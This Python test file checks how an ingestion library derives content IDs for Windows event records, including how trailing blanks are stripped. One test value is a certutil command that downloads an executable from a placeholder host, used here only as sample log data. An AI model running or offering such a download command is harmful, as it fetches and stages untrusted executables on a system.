"""Windows content ids: texts lose their trailing blanks exactly as the replace loop took them off."""

from __future__ import annotations

import orjson
import pytest

from ingest.event_ids import content_id
from ingest.parsers import windows_record_ids
from ingest.parsers.windows_record_ids import NAME, NO_ENVELOPE_KEYS, windows_record_id

VALUES = [
    "certutil -urlcache -f http://x/a.exe ",  # one trailing blank (the corpus's ParentCommandLine)
    "trailing   ",  # several
    'a " quote inside',  # a blank before an escaped quote is no text's end
    'ends with a quoted word "x" ',
    "C:\\Windows\\System32\\cmd.exe",
    "no blank",
    " leading",
    "",
    "   ",
    "\u00e9t\u00e9 ",
]


def reference_id(channel, computer, number, event_id, second, kind, fields):
    """The id as the loop over ``bytes.find`` made it before the compiled search."""
    data = {k: v for k, v in fields.items() if k not in NO_ENVELOPE_KEYS}
    key = orjson.dumps(
        (channel.strip().lower(), computer.strip().lower(), number, event_id, second, kind, data),
        option=orjson.OPT_SORT_KEYS,
    )
    while key.find(b' "') != -1:
        key = key.replace(b' "', b'"')
    return content_id(NAME, key)


def test_the_blank_before_a_quote_is_looked_for_by_a_compiled_pattern():
    # bytes.find scanned for a needle ending in '"' at ~1 ns a byte; the pattern takes a third (measured)
    assert windows_record_ids._BLANK_QUOTE.__self__.pattern == rb' "'


@pytest.mark.parametrize("value", VALUES)
def test_ids_are_the_replace_loops_for_every_spelling_of_blanks(value):
    fields = {"process.command_line": value, "process.pid": 4, "message": "m ", "host.name.original": "PC "}
    # "2019-03-19T23:35:07Z": second 5 * 60 + 7 of the quarter hour
    got = windows_record_id("Security ", "PC01 ", 7, 4688, "2019-03-19T23:35:07Z", 0.0, "k", fields)
    assert got == reference_id("Security ", "PC01 ", 7, 4688, 307, "k", fields)


def test_a_text_with_trailing_blanks_has_the_id_of_the_trimmed_text():
    def record_id(value):
        return windows_record_id("Security", "PC01", 7, 4688, "2019-03-19T23:35:07Z", 0.0, "k", {"a": value})

    assert record_id("cmd.exe /c dir   ") == record_id("cmd.exe /c dir")
    assert record_id("cmd.exe /c dir") != record_id("cmd.exe /c dir2")
